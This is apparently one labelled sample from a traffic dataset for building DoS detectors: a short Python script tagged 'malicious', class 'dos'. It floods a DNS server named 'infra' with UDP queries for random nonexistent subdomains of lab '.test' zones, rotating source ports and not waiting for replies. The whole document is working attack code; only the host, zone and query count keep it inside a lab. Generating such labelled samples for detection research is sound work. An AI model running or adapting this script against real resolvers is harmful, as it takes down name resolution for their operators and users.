# label: malicious
# class: dos
# twin: dns_bulk
# tools: python3-minimal dnsmasq-base iodine
# about: A bounded flood of queries for names that do not exist, which every cache must hand on.
# command: UDP queries of random names, answers not awaited
# params: fast net=lan N=400 PAUSE=0.004 KIND=1 as=zst
# params: any net=wan N=300 PAUSE=0.02 KIND=255
import os
import random
import socket
import string
import struct
import time

random.seed(int(os.environ["SEED"]))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("infra", 53))
for i in range(int(os.environ["N"])):
    if i % 40 == 39:  # another source port
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(("infra", 53))
    name = "".join(random.choices(string.ascii_lowercase + string.digits, k=random.randint(5, 14)))
    zone = b"\x03cdn\x04test" if os.environ["KIND"] == "1" else b"\x03lab\x04test"
    question = bytes([len(name)]) + name.encode() + zone + struct.pack(">BHH", 0, int(os.environ["KIND"]), 1)
    try:
        s.send(struct.pack(">6H", random.randrange(65536), 0x100, 1, 0, 0, 0) + question)
    except OSError:
        pass
    time.sleep(random.uniform(0, 2) * float(os.environ["PAUSE"]))
